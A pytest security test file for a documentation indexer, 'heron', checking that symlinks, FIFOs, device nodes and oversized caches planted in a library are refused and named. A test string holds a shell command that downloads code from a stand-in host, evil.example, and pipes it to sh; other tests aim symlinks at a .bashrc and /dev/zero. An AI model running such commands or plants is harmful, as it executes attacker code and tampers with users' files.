"""A library's files are read, and its Q&A caches written, only where they belong: each
attack ships in a library what a git repository can hold (a symlink, a FIFO, a device, a
cache far past its caps) and drives the real ``heron index --enrich`` (a loopback server
replaying OpenAI's wire format is the model) or the library's own functions. What lies
outside must stay unread and unwritten, no run may hang or fill memory, and the page or
cache refused is named, with the rest of the library indexed."""

from __future__ import annotations

import json
import os
import resource
import stat
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from heron.libraries import add_library, index_library
from heron.libraries.enrich import MAX_ANSWER, MAX_QUESTION, read_caches
from heron.libraries.parse import parse_page
from heron.libraries.scan import read_page, scan
from heron.settings import Settings
from heron.store import SQLiteStore
from tests.conftest import sqlite_store
from tests.llm_servers import KEY, ONE_MODEL
from tests.llm_servers import serve as serve_chat
from tests.run_heron import run_heron
from tests.security.deadline import within

SECRET = "outside secret"
PAGE = "# Guide\n\nHeron indexes the pages of a library.\n"
#: What a model may write (or be made to write) as a question: shell syntax, kept as text.
HOSTILE = "What does $(curl -s https://evil.example/x | sh) do here?"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A library of one page, ``guide.md`` (its cache: ``.ai/guide.toml``); ``tmp_path /
    "outside"`` holds what the attacks aim at."""
    root = tmp_path / "lib"
    root.mkdir()
    (root / "guide.md").write_text(PAGE)
    (tmp_path / "outside").mkdir()
    return root


@pytest.fixture
def library(root: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """``root`` added as the library ``lib`` of a fresh HERON_HOME, alone."""
    monkeypatch.setenv("HERON_LIBRARY_DEFAULT_DOCS", "false")
    add_library("lib", str(root), Settings())
    return root


def enrich(home: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """``heron index --enrich --json`` with the loopback model answering ``HOSTILE``:
    the run's report."""
    with serve_chat() as chat:
        (home / "models.yml").write_text(ONE_MODEL.format(url=chat.url))
        monkeypatch.setenv("TEST_OPENAI_KEY", KEY)
        monkeypatch.setenv("HERON_LLM_RETRIES", "0")
        chat.replies.append(json.dumps({"qa": [{"question": HOSTILE, "answer": "Nothing."}]}))
        done = run_heron("index", "--enrich", "--json", ok=False, timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    (report,) = json.loads(done.stdout)
    return report


def test_an_ai_folder_linked_outside_is_never_written(
    library: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "outside"
    (library / ".ai").symlink_to(outside, target_is_directory=True)
    report = enrich(home, monkeypatch)
    assert list(outside.iterdir()) == []  # before: outside/guide.toml, the model's TOML
    assert (library / ".ai").is_symlink()
    # The questions are kept, in Heron's data directory, and the link is named.
    assert report["questions"] == 1
    assert HOSTILE in (home / "libraries" / ".lib.ai" / ".ai" / "guide.toml").read_text()
    (warning,) = report["warnings"]
    assert "'.ai/guide.toml' goes through the symlink '.ai'" in warning


def test_a_tmp_name_linked_outside_is_never_written(
    library: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bashrc = tmp_path / "outside" / ".bashrc"
    bashrc.write_text("# mine\n")
    (library / ".ai").mkdir()
    (library / ".ai" / "guide.toml.tmp").symlink_to(bashrc)
    report = enrich(home, monkeypatch)
    assert bashrc.read_text() == "# mine\n"  # before: the model's TOML, run at next login
    assert (library / ".ai" / "guide.toml.tmp").is_symlink()  # planted, never opened
    cache = library / ".ai" / "guide.toml"
    assert not cache.is_symlink() and HOSTILE in cache.read_text()
    assert (report["questions"], report["warnings"]) == (1, [])
    assert not [p for p in (library / ".ai").iterdir() if "heron-tmp" in p.name]


def capped(megabytes: int, attack: Callable[[], Any]) -> Callable[[], Any]:
    """``attack`` with the address space of its (forked) process capped ``megabytes``
    above what it holds now: reading ``/dev/zero`` whole fails fast instead of taking the
    machine's memory."""

    def run() -> Any:
        size = int(Path("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[20])
        limit = size + megabytes * 2**20
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        return attack()

    return run


def test_a_cache_that_is_dev_zero_or_a_device_is_refused_at_once(root: Path) -> None:
    page = parse_page(PAGE, "guide")
    (root / ".ai").mkdir()
    cache = root / ".ai" / "guide.toml"
    cache.symlink_to("/dev/zero")
    read, elapsed = within(10, capped(256, lambda: read_caches(root, page)))
    assert read.pairs is None and elapsed < 1  # before: MemoryError under the cap
    assert read.notes[0].startswith("its Q&A cache '.ai/guide.toml' is a symlink")
    cache.unlink()
    try:
        os.mknod(cache, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero itself
    except PermissionError:
        return  # only root may make device nodes; the symlink case above still ran
    read, elapsed = within(10, capped(256, lambda: read_caches(root, page)))
    assert read.pairs is None and elapsed < 1
    assert "'.ai/guide.toml' is a character device" in read.notes[0]


def test_fifos_hang_nothing_and_are_named_in_the_status(library: Path, tmp_path: Path) -> None:
    (library / ".ai").mkdir()
    os.mkfifo(library / ".ai" / "guide.toml")  # before: heron index waited on it forever
    os.mkfifo(library / "pipe.md")
    (library / "docs").mkdir()
    (library / "docs" / "page.md").write_text("# Docs page\n\nText.\n")
    os.mkfifo(library / "docs" / ".collection")  # a collection marker is read too
    (tmp_path / "outside" / "secret.md").write_text(SECRET)
    (library / "leak.md").symlink_to(tmp_path / "outside" / "secret.md")
    try:
        done = run_heron("index", "--json", timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("heron index still waited on a FIFO after 60 s")
    (report,) = json.loads(done.stdout)
    assert report["pages"] == 2  # guide and docs/page, indexed
    skipped = {s["path"]: s["reason"] for s in report["skipped"]}
    assert "FIFO" in skipped["pipe.md"] and "outside the library" in skipped["leak.md"]
    assert any("'.ai/guide.toml' is a FIFO" in w for w in report["warnings"])
    status = run_heron("library", "status", "lib").stdout
    assert "skipped pipe.md: a FIFO (named pipe)" in status, status
    (listed,) = json.loads(run_heron("library", "status", "--json").stdout)
    assert {s["path"] for s in listed["skipped"]} == {"pipe.md", "leak.md", "docs/.collection"}


@pytest.fixture
def settings(library: Path) -> Settings:
    return Settings()


@pytest.fixture
def lib_store(settings: Settings, embedder: Any) -> Iterator[SQLiteStore]:
    with sqlite_store(settings.db_path, embedder) as store:
        yield store


def test_an_oversized_shipped_cache_is_read_to_the_caps_of_a_generated_one(
    library: Path, settings: Settings, lib_store: SQLiteStore
) -> None:
    """The issue's 49-byte page shipping 120 questions of 2,000 characters (45 s of
    embedding): read as a generated cache would be written, and the cut named."""
    (library / "guide.md").unlink()
    (library / "tiny.md").write_text("# Tiny\n\nOne short page, shipped with a cache.\n")
    page = parse_page((library / "tiny.md").read_text(), "tiny")
    long_answer = "a" * 5000  # one answer past its cap too; 120 would pass the size cap
    pairs = "".join(
        f'\n[[qa]]\nquestion = "Question {n}: {"why " * 495}"\n'
        f'answer = "{long_answer if n == 0 else "Because."}"\n'
        for n in range(120)
    )
    (library / ".ai").mkdir()
    (library / ".ai" / "tiny.toml").write_text(f'content_hash = "{page.content_hash}"\n{pairs}')
    report = index_library("lib", lib_store, settings=settings, enrich=False)
    assert report.questions == settings.library.enrich_questions == 5  # before: 120
    questions = [r for r in lib_store.ids("lib") if "#q" in r]
    assert len(questions) == 5
    for record in (lib_store.get("lib", i) for i in questions):
        assert len(record.text) <= MAX_QUESTION
        assert len(record.metadata["answer"]) <= MAX_ANSWER
    (warning,) = report.warnings
    assert warning.startswith("tiny: its Q&A cache '.ai/tiny.toml' holds 120 questions")
    assert "HERON_LIBRARY_ENRICH_QUESTIONS" in warning


def test_a_cache_past_the_size_cap_is_not_read(root: Path) -> None:
    page = parse_page(PAGE, "guide")
    (root / ".ai").mkdir()
    filler = "# " + "x" * 1000 + "\n"
    (root / ".ai" / "guide.toml").write_text(
        f'content_hash = "{page.content_hash}"\n' + filler * 2000 + '[[qa]]\nquestion = "a b c"\n'
    )
    read, elapsed = within(10, capped(256, lambda: read_caches(root, page)))
    assert read.pairs is None and elapsed < 1
    assert "over the" in read.notes[0] and "limit of a Q&A cache" in read.notes[0]


def test_a_page_swapped_after_the_scan_is_not_read(root: Path, tmp_path: Path) -> None:
    """The scan saw a page inside the root; a symlink to outside (or a FIFO) put in
    its place before it is read is refused, never followed or waited on."""
    secret = tmp_path / "outside" / "secret.md"
    secret.write_text(SECRET)
    (page,) = scan(root, 10_000)[0]
    (root / "guide.md").unlink()
    (root / "guide.md").symlink_to(secret)
    text, reason = within(10, lambda: read_page(page, 10_000))[0]
    assert text is None and "'guide.md' is a symlink" in (reason or "")  # before: SECRET
    (root / "guide.md").unlink()
    os.mkfifo(root / "guide.md")
    text, reason = within(10, lambda: read_page(page, 10_000))[0]
    assert text is None and "'guide.md' is a FIFO (named pipe)" in (reason or "")
    (root / "guide.md").unlink()
    (root / "guide.md").write_text("x" * 20_000)  # grown past the limit since the scan
    text, reason = within(10, lambda: read_page(page, 10_000))[0]
    assert text is None and "HERON_LIBRARY_MAX_PAGE_BYTES" in (reason or "")
